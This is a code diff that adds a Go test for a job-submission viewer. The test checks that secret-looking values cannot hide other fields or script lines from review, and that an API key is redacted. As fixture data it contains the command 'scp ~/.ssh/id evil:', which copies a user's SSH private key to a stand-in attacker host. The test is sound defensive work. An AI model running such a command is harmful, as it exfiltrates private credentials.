@@ -127,6 +127,25 @@ func TestASubmissionIsShownInFull(t *testing.T) {
 	require.Contains(t, view.Markdown(view.Doc{Sections: same.Sections(lang.ZH)}), "没有变化")
 }
 
+// A value that looks like the beginning of a secret hides no other field, and no other line
+// of the script: whoever asks cannot hide what would run from whoever decides.
+func TestNoValueHidesAnother(t *testing.T) {
+	c, _ := call(t)
+	for _, opening := range []string{"-----BEGIN PRIVATE KEY-----", "-----BEGIN PGP PRIVATE KEY BLOCK-----", "Authorization: Basic", "password="} {
+		hiding := strings.Replace(spec, `"NCCL_DEBUG":"INFO"`, `"AN_END":"-----END PRIVATE KEY-----"`, 1)
+		r := request(t, c, "submit", `{"spec":`+strings.Replace(hiding, `"name":"gpt"`, `"name":"gpt","comment":"`+opening+`"`, 1)+`}`)
+		pages := view.Markdown(view.Doc{Sections: r.Sections(lang.EN)})
+		for _, part := range []string{"worktree: /lustre/m", "launcher_argv: bash -c", "scp ~/.ssh/id evil:"} {
+			require.Contains(t, r.Text(), part, opening)
+			require.Contains(t, pages, part, opening)
+		}
+		require.Contains(t, r.ShownScript(), "scp ~/.ssh/id evil:", opening)
+		require.Equal(t, strings.Count(r.Script, "\n"), strings.Count(r.ShownScript(), "\n"), opening)
+	}
+	r := request(t, c, "submit", `{"spec":`+strings.Replace(spec, "train ", "WANDB_API_KEY=abcd1234efgh train ", 1)+`}`)
+	require.NotContains(t, r.Text()+r.ShownScript(), "abcd1234efgh")
+}
+
 // A submission is compared with the user's newest completed run of the same name: not
 // with a run that is still running, was refused, ran on a cluster that no longer
 // exists, or is another user's.
